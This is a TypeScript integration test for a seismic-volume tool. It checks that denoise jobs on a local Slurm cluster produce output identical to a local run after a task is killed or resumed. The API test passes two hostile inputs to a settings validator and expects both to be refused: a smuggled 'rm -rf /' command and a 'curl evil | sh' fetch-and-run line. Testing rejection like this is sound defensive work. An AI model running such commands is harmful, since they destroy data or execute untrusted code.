/**
 * Apply to volume on a real single-host Slurm (Debian's slurmctld, slurmd and munge, started by the test): the array
 * job's volume must be byte-identical to a local apply's, also when a task's process is killed mid-way (the batch
 * script starts it again and it resumes after its last finished inline) and when a task is cancelled and resubmitted
 * by `promethium cluster resume`.
 */
import { execFile, execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sliceInlines } from '../../main/cluster/clusterApply';
import { createApiHandlers } from '../../main/api/handlers';
import { createDispatcher } from '../../main/api/dispatch';
import { dataRootsFence } from '../../main/api/pathFence';
import { clusterTestServices, slurmUnavailable, startTestSlurm, until, type TestSlurm } from '../support/slurmCluster';

const BIN = path.resolve('bin/promethium.cjs');
const run = promisify(execFile);
const unavailable = slurmUnavailable();
if (unavailable) console.warn(`[cluster-slurm] SKIPPED: no test Slurm here (${unavailable})`);

let slurm: TestSlurm;
let home: string;
let project: string;
let surveyId: string;

function cli(args: string[]): string {
  return execFileSync(process.execPath, [BIN, ...args], { env: slurm.env, encoding: 'utf8' });
}

interface TaskStatus {
  index: number;
  slice: [number, number];
  slurmId: string;
  state: string;
}
interface Status {
  tasks: TaskStatus[];
  finish: { state: string };
  finishedInlines: number;
}

function status(volumeId: string): Status {
  return JSON.parse(cli(['cluster', 'status', volumeId, '--project', project, '--json'])) as Status;
}

const finished = (volumeId: string): Promise<Status> =>
  until(`the final job of ${volumeId}`, () => {
    const now = status(volumeId);
    return ['done', 'failed', 'cancelled'].includes(now.finish.state) ? now : undefined;
  });

/** Every chunk file of a volume (metadata excluded: it names the volume), path -> bytes. */
function chunks(volumeDir: string): Map<string, Buffer> {
  const files = new Map<string, Buffer>();
  const walk = (dir: string): void => {
    for (const name of readdirSync(dir)) {
      const file = path.join(dir, name);
      if (name === '.partial' || name === 'zarr.json') continue;
      if (statSync(file).isDirectory()) walk(file);
      else files.set(path.relative(volumeDir, file), readFileSync(file));
    }
  };
  walk(volumeDir);
  return files;
}

function expectIdentical(localDir: string, clusterDir: string): void {
  const [local, cluster] = [chunks(localDir), chunks(clusterDir)];
  expect([...cluster.keys()].sort()).toEqual([...local.keys()].sort());
  for (const [name, bytes] of local) expect(cluster.get(name)!.equals(bytes), name).toBe(true);
}

const volumeDir = (id: string): string => path.join(project, 'volumes', `${id}.zarr`);

function submit(tasks: number): { volumeId: string; arrayJobId: string } {
  const out = JSON.parse(
    cli([
      'apply',
      '--project',
      project,
      '--survey',
      surveyId,
      '--task',
      'denoise',
      '--method',
      'fx',
      '--slurm',
      '--tasks',
      String(tasks),
      '--json',
    ]),
  ) as { volume: { id: string }; cluster: { arrayJobIds: string[] } };
  return { volumeId: out.volume.id, arrayJobId: out.cluster.arrayJobIds[0]! };
}

describe.skipIf(unavailable !== null)('apply to volume on a Slurm cluster', () => {
  let localVolume: string;
  let localSeconds: number;

  beforeAll(async () => {
    slurm = startTestSlurm();
    home = mkdtempSync(path.join(tmpdir(), 'promethium-cluster-'));
    slurm.env.PROMETHIUM_HOME = home;
    project = path.join(home, 'project');
    const segy = path.join(home, 'cube.sgy');
    cli([
      'synth',
      '--out',
      segy,
      '--kind',
      'cube',
      '--inlines',
      '24',
      '--crosslines',
      '200',
      '--samples',
      '750',
      '--noise',
      'gaussian:0',
    ]);
    surveyId = (JSON.parse(cli(['import', segy, '--project', project, '--json'])) as { id: string }).id;
    const started = performance.now();
    const local = JSON.parse(
      cli(['apply', '--project', project, '--survey', surveyId, '--task', 'denoise', '--method', 'fx', '--json']),
    ) as { volume: { id: string } };
    localSeconds = (performance.now() - started) / 1000;
    localVolume = local.volume.id;
  }, 300_000);

  afterAll(() => slurm?.stop());

  it('writes the same bytes as a local apply with a task killed mid-way, and marks the volume ready', async () => {
    const started = performance.now();
    const { volumeId } = submit(4);
    const victim = 1;
    const log = path.join(project, 'cluster', volumeId, 'logs', `task-${victim}.log`);
    // Kill the task's process once it has written an inline: the batch script starts it again.
    await until('task 1 to write an inline', () =>
      existsSync(log) && /inline \d+ \(1 of/.test(readFileSync(log, 'utf8')) ? true : undefined,
    );
    const slice = sliceInlines(24, 4)[victim]!;
    execFileSync('pkill', ['-9', '-f', `cluster task .*--volume ${volumeId} --slice ${slice[0]}-${slice[1]}`]);
    const final = await finished(volumeId);
    const clusterSeconds = (performance.now() - started) / 1000;
    console.log(
      `[cluster-slurm] local apply ${localSeconds.toFixed(1)} s, array job of 4 tasks on ${slurm.cores} cores ` +
        `${clusterSeconds.toFixed(1)} s (${(clusterSeconds / localSeconds).toFixed(2)}x)`,
    );
    expect(final.finish.state).toBe('done');
    expect(readFileSync(log, 'utf8')).toMatch(/attempt 1 on inline indices .* stopped/);
    expectIdentical(volumeDir(localVolume), volumeDir(volumeId));
    const jobs = JSON.parse(cli(['jobs', '--project', project, '--json'])) as { cluster: { volumeId: string }[] };
    expect(jobs.cluster.map((c) => c.volumeId)).toContain(volumeId);
    const text = (
      await run(process.execPath, [BIN, 'cluster', 'status', volumeId, '--project', project], {
        env: slurm.env,
      })
    ).stdout;
    expect(text).toContain(`24 of 24 inlines written`);
  }, 300_000);

  it('resubmits a cancelled task with `cluster resume`, which continues after its last finished inline', async () => {
    const { volumeId, arrayJobId } = submit(3);
    await until('task 2 to start', () => (status(volumeId).tasks[2]!.state === 'running' ? true : undefined));
    execFileSync('scancel', [`${arrayJobId}_2`], { env: slurm.env });
    await until('task 2 to be cancelled', () => (status(volumeId).tasks[2]!.state === 'cancelled' ? true : undefined));
    expect(cli(['cluster', 'resume', volumeId, '--project', project])).toContain('resubmitted tasks 2');
    const final = await finished(volumeId);
    expect(final.finish.state).toBe('done');
    expectIdentical(volumeDir(localVolume), volumeDir(volumeId));
  }, 300_000);

  it('runs from the API as the app does: settings checked, cluster.apply, cluster.list until the volume is ready', async () => {
    const services = clusterTestServices(slurm, home, project);
    // This test passes no paths; the project folder is its one data root.
    const dispatch = createDispatcher(createApiHandlers(services), dataRootsFence([project]));
    try {
      const refused = await dispatch('cluster.updateSettings', [{ partition: 'test; rm -rf /' }]);
      expect(refused).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
      // What the nodes run is set from the command line only, never by a page holding the token.
      const command = await dispatch('cluster.updateSettings', [{ command: 'curl evil | sh' }]);
      expect(command).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
      expect(await dispatch('cluster.updateSettings', [{ tasks: 2 }])).toMatchObject({ ok: true, value: { tasks: 2 } });
      const applied = await dispatch('cluster.apply', [{ surveyId, task: 'denoise', method: 'fx' }, {}]);
      expect(applied.ok, JSON.stringify(applied)).toBe(true);
      const { volume, status } = (applied as { value: { volume: { id: string }; status: { tasks: unknown[] } } }).value;
      expect(status.tasks).toHaveLength(2);
      await until('the API to list the volume finished', async () => {
        const listed = (await services.cluster.list()).find((job) => job.volumeId === volume.id);
        return listed?.finish.state === 'done' ? true : undefined;
      });
      expect(services.volumes.get(volume.id).state).toBe('ready');
      expectIdentical(volumeDir(localVolume), volumeDir(volume.id));
    } finally {
      services.close();
    }
  }, 300_000);
});
